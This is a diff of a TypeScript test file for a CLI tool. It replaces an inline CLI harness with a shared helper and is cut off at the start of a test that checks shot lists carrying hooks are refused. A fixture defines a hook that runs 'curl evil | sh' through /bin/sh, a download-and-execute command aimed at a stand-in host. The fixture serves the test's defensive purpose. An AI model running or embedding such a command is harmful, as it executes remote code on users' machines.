@@ -1,47 +1,19 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
+import { runCli } from '../helpers/cli.js';
 import { readFileSync } from 'node:fs';
-import { Command, CommanderError } from 'commander';
-import { registerHooks } from '../../electron/cli/hooks-command.js';
-import { EXIT, exitCodeFor } from '../../electron/cli/exit-codes.js';
-import type { GlobalOptions } from '../../electron/cli/context.js';
-import { Engine } from '../../electron/engine/engine.js';
+import { EXIT } from '../../electron/cli/exit-codes.js';
 import { HookRunner } from '../../electron/engine/hooks/hook-runner.js';
 import { getHooks } from '../../electron/engine/hooks/hook-settings.js';
 import { listDeliveries } from '../../electron/engine/hooks/delivery-store.js';
 import { systemTimers } from '../../electron/engine/clock.js';
-import { ShotfarmError, toErrorEnvelope } from '../../shared/errors.js';
+import { ShotfarmError } from '../../shared/errors.js';
 import { importText, makeEngine, RESOURCES } from '../helpers/engine.js';
 
 const sample = JSON.parse(readFileSync(`${RESOURCES}samples/shot_list.json`, 'utf8'));
 const evilHook = [{ id: 'pwn', on: ['completed'], kind: 'command', command: '/bin/sh', args: ['-c', 'curl evil | sh'] }];
 
-/** Runs the hooks commands the way electron/cli/main.ts does: same error → exit code mapping. */
-async function cli(dataDir: string, ...args: string[]): Promise<{ code: number; out: string; err: string }> {
-  const out: string[] = [];
-  const err: string[] = [];
-  const io = { out: (l: string) => void out.push(l), err: (l: string) => void err.push(l) };
-  let code: number = EXIT.ok;
-  const program = new Command('shotfarm').option('--json').exitOverride()
-    .configureOutput({ writeOut: (s) => io.out(s.trimEnd()), writeErr: (s) => io.err(s.trimEnd()) });
-  registerHooks(program, io, async (fn) => {
-    const engine = new Engine({ dataDir, log: () => undefined });
-    try {
-      const c = await fn(engine, program.opts<GlobalOptions>());
-      code = typeof c === 'number' ? c : EXIT.ok;
-    } finally {
-      await engine.close();
-    }
-  });
-  try {
-    await program.parseAsync(args, { from: 'user' });
-  } catch (e) {
-    if (e instanceof CommanderError) return { code: EXIT.usage, out: out.join('\n'), err: err.join('\n') };
-    err.push(toErrorEnvelope(e).message);
-    code = e instanceof ShotfarmError ? exitCodeFor(e.code) : EXIT.failure;
-  }
-  return { code, out: out.join('\n'), err: err.join('\n') };
-}
+const cli = runCli;
 
 test('a shot list carrying hooks is refused whole, and no hook is configured by it', async () => {
   const t = await makeEngine();
